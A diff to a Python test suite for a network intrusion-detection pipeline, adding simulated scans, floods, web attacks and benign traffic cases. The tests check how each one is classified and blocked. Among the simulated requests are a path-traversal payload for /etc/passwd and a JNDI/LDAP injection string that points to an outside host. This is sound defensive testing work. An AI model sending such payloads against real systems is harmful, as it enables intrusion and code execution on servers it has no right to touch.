@@ -25,12 +25,27 @@ ATTACKS = {
     "polite scan, a probe every 0.4 s": (lambda: traffic.syn_scan(T, range(1, 101), 0.4), "port_scan", "drop"),
     "sneaky scan, a probe every 15 s": (lambda: traffic.syn_scan(T, range(1, 41), 15), "port_scan", None),
     "connect scan where every port is open": (lambda: traffic.connect_scan_of_open_host(T, range(1, 101)), "port_scan", "drop"),
-    "FIN scan": (lambda: traffic.flag_scan(T, FIN, range(1, 101)), "port_scan", "drop"),
-    "NULL scan": (lambda: traffic.flag_scan(T, 0, range(1, 101)), "port_scan", "drop"),
-    "Xmas scan": (lambda: traffic.flag_scan(T, FIN | PSH | URG, range(1, 101)), "port_scan", "drop"),
-    "ACK scan": (lambda: traffic.ack_scan(T, range(1, 101)), "port_scan", "drop"),
-    "UDP scan": (lambda: traffic.udp_scan(T, range(1, 101)), "port_scan", "drop"),
-    "one port of a /24": (lambda: traffic.sweep(T, 445, range(1, 255)), "port_scan", "drop"),
+    "FIN scan": (lambda: traffic.flag_scan(T, FIN, range(1, 101)), "port_scan", None),
+    "NULL scan": (lambda: traffic.flag_scan(T, 0, range(1, 101)), "port_scan", None),
+    "Xmas scan": (lambda: traffic.flag_scan(T, FIN | PSH | URG, range(1, 101)), "port_scan", None),
+    "ACK scan": (lambda: traffic.ack_scan(T, range(1, 101)), "port_scan", None),
+    "UDP scan": (lambda: traffic.udp_scan(T, range(1, 101)), "port_scan", None),
+    "IP protocol scan": (lambda: traffic.protocol_scan(T, range(20, 46)), "port_scan", None),
+    "one port of a /24": (lambda: traffic.sweep(T, 445, range(1, 255)), "port_scan", None),
+    "scan under a forged address": (lambda: traffic.forged_scan(T, range(1, 1001)), "port_scan", None),
+    "a port every four minutes": (lambda: traffic.syn_scan(T, range(11, 25), 240), "port_scan", None),
+    "a host every ninety seconds": (lambda: traffic.sweep(T, 22, range(1, 40), 90), "port_scan", None),
+    "slow HTTP": (lambda: traffic.slow_headers(T, 150, 6), "dos", "drop"),
+    "HTTP flood": (lambda: traffic.web_requests(T, [b"GET /"] * 6_000, b"200 OK", 0.002), "dos", None),
+    "connection flood": (lambda: traffic.tiny_sessions(T, 8_000, 500, 443), "dos", None),
+    "reflected answers of 50 resolvers": (lambda: traffic.reflection(T, 10_000, 2_000, 50), "ddos", "rate_limit"),
+    "web scan": (lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(300)], b"404 Not Found"), "web_attack", None),
+    "web exploits": (
+        lambda: traffic.web_requests(T, [b"GET /?f=../../../etc/passwd"] * 12, b"200 OK"),
+        "web_attack",
+        "drop",
+    ),
+    "web login guesses": (lambda: traffic.web_requests(T, [b"POST /login"] * 60, b"200 OK", 0.5), "brute_force", None),
     "ping sweep of a /24": (lambda: traffic.ping_sweep(T, range(1, 255), 12), "port_scan", None),
     "SYN flood": (lambda: traffic.syn_flood(T, 20_000, 5_000), "dos", "rate_limit"),
     "SYN flood with 4,000 forged sources": (lambda: traffic.syn_flood(T, 20_000, 5_000, FORGED), "ddos", "rate_limit"),
@@ -86,6 +101,12 @@ BENIGN: dict[str, Callable[[], Iterable[Packet]]] = {
     "passive FTP": lambda: traffic.passive_ftp(T),
     "a server whose client restarted": lambda: traffic.forgetful_client(T),
     "a monitor that logs in over ssh": lambda: traffic.ssh_monitor(T),
+    "a monitor that exchanges keys sixteen times a minute": lambda: traffic.key_exchanges(T, 60, 60 / 16),
+    "clients that wait for a stuck server": lambda: traffic.waiting_clients(T),
+    "a P2P client's calls": lambda: traffic.p2p_calls(T),
+    "a server that resets what the capture does not show": lambda: traffic.resetting_server(T),
+    "a user who mistypes a password in a form": lambda: traffic.web_requests(T, [b"POST /login"] * 5, b"200 OK", 5),
+    "a client with stale links": lambda: traffic.web_requests(T, [b"GET /old.png"] * 50, b"404 Not Found", 0.5),
     "a backup over ssh": lambda: traffic.backup(T),
     "traceroute": lambda: traffic.traceroute(T),
     "a one-way video stream": lambda: traffic.video_stream(T),
@@ -121,7 +142,7 @@ def test_an_attack_is_found_with_its_type_source_and_remedy(name: str) -> None:
     target = VICTIM if action == "rate_limit" else ATTACKER
     assert [str(network) for network in spec.networks()] == [f"{target}/32"]
     assert spec.guardrails.ttl_seconds == 900
-    if action == "rate_limit" and "ping" not in name and "new port" not in name:
+    if action == "rate_limit" and not any(word in name for word in ("ping", "new port", "reflected")):
         assert [port.first for port in spec.target.ports] == [53 if "UDP" in name else 80]
 
 
@@ -166,13 +187,53 @@ def test_a_long_flood_is_one_alert_with_a_growing_count() -> None:
 def test_every_accused_gets_its_policy_though_they_came_too_many_at_once() -> None:
     pipeline = build(RULES)
     scanners = [f"198.51.100.{host}" for host in range(1, 41)]
-    scans = [packet for source in scanners for packet in traffic.syn_scan(T, range(1, 151), 0.2, source)]
+    scans = [p for n, source in enumerate(scanners) for p in traffic.syn_scan(T, range(1, 151), 0.2, source, f"10.0.1.{n}")]
     reports = [r for block in blocks(batch(traffic.ordered(scans)), 500) for r in pipeline.feed(block)] + pipeline.finish()
     proposed = [report for report in reports if report.policy is not None]
     assert sorted(report.entity for report in proposed) == sorted(scanners)
     seconds = [report.last_us // 1_000_000 for report in proposed]
     assert max(seconds.count(second) for second in seconds) <= 20
-    assert len(reports) <= 4 * len(scanners)  # and nobody is reported every second until then
+    assert len(reports) <= 5 * len(scanners)  # and nobody is reported every second until then
+
+
+def test_nobody_is_blocked_for_a_scan_that_comes_from_many_addresses_at_once() -> None:
+    decoys = ["192.0.2.7", "192.0.2.8", "192.0.2.9"]
+    found = run(traffic.decoy_scan(T, range(1, 200), decoys))
+    assert {(detection.type, detection.entity) for detection in found} == {("port_scan", each) for each in (ATTACKER, *decoys)}
+    assert [detection.policy for detection in found] == [None] * 4
+
+
+def test_nobody_is_blocked_for_a_flood_on_random_ports_under_his_address() -> None:
+    found = run(traffic.forged_flood_on_random_ports(T, 20_000, 5_000))
+    assert ("drop", ATTACKER) not in {(str(d.policy["action"]), d.entity) for d in found if d.policy is not None}
+    assert VICTIM in {detection.victim for detection in found}
+
+
+def test_an_accusation_becomes_a_policy_when_the_accused_has_proved_to_be_there() -> None:
+    pipeline = build(RULES)
+    silent = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T, range(5000, 5100)))), prompt=True)
+    assert [(each.type, each.policy) for each in silent] == [("port_scan", None)]
+    found = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T + 1.1, range(20, 90)))), prompt=True) + pipeline.finish()
+    (proposed,) = [detection for detection in found if detection.policy is not None]
+    assert proposed.alert_id == silent[0].alert_id
+    assert proposed.policy is not None
+    assert proposed.policy["target"]["ips"] == [ATTACKER]  # type: ignore[index]
+
+
+def test_one_stray_time_from_the_future_keeps_no_alert_open() -> None:
+    stray = [Packet(T + 10 * 86_400, ATTACKER, VICTIM, 40_000, 7, 6, 2)]
+    pipeline = build(RULES)
+    first = pipeline.feed(batch([*traffic.ordered(traffic.syn_scan(T, range(1, 101))), *stray]))
+    second = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T + 1_000, range(1, 101))))) + pipeline.finish()
+    assert len({detection.alert_id for detection in first + second}) == 2
+    assert max(detection.last_us for detection in first + second) <= (T + 1_002) * 1e6
+
+
+def test_a_clock_that_was_set_back_begins_new_alerts() -> None:
+    pipeline = build(RULES)
+    found = pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T, range(1, 301)))))
+    found += pipeline.feed(batch(traffic.ordered(traffic.syn_scan(T - 86_400, range(1, 301))))) + pipeline.finish()
+    assert len({detection.alert_id for detection in found}) == 2
 
 
 def test_prompt_evaluation_reports_before_the_hop_ends() -> None:
@@ -219,6 +280,19 @@ TRAFFIC_OF = {
     "scan-udp": lambda: traffic.udp_scan(T, range(1, 41)),
     "scan-horizontal": lambda: traffic.sweep(T, 445, range(1, 60)),
     "scan-horizontal-slow": lambda: traffic.sweep(T, 445, range(1, 60), 8),
+    "scan-vertical-hours": lambda: traffic.syn_scan(T, range(11, 25), 240),
+    "scan-horizontal-hours": lambda: traffic.sweep(T, 22, range(1, 40), 90),
+    "scan-protocols": lambda: traffic.protocol_scan(T, range(20, 46)),
+    "slow-http": lambda: traffic.slow_headers(T, 60, 4),
+    "flood-http": lambda: traffic.web_requests(T, [b"GET /"] * 4_000, b"200 OK", 0.002),
+    "flood-http-sessions": lambda: traffic.tiny_sessions(T, 4_000, 500, 443),
+    "flood-reflection": lambda: traffic.reflection(T, 3_000, 1_000, 50),
+    "web-scan": lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(100)], b"404 Not Found"),
+    "web-scan-sessions": lambda: traffic.tiny_sessions(T, 200, 10, 443),
+    "web-scan-unanswered": lambda: traffic.web_requests(T, [b"GET /%d" % n for n in range(250)], b""),
+    "web-guessing": lambda: traffic.web_requests(T, [b"GET /admin"] * 30, b"401 Unauthorized", 0.5),
+    "web-form-guessing": lambda: traffic.web_requests(T, [b"POST /wp-login.php"] * 20, b"200 OK", 0.5),
+    "web-exploit": lambda: traffic.web_requests(T, [b"GET /?x=${jndi:ldap://203.0.113.9/a}"], b"200 OK"),
     "scan-icmp-sweep": lambda: traffic.ping_sweep(T, range(1, 60), 5),
     "brute-ssh": lambda: traffic.guesses(T, 20, 22, 1.0),
     "brute-clear-text": lambda: traffic.guesses(T, 8, 21, 1.0, greeting=b"530 no\r\n", sent=30, got=60),
@@ -229,7 +303,8 @@ TRAFFIC_OF = {
 
 
 def test_every_shipped_rule_has_traffic_that_is_reported_because_of_it() -> None:
-    assert set(TRAFFIC_OF) == {rule.id for rule in RULES.rules if not rule.names & EVENT_COUNTS}  # those are in test_reports
+    others = {rule.id for rule in RULES.rules if rule.names & EVENT_COUNTS or rule.unless_known}  # those are in test_reports
+    assert set(TRAFFIC_OF) == {rule.id for rule in RULES.rules} - others
 
 
 @pytest.mark.parametrize("rule_id", TRAFFIC_OF)
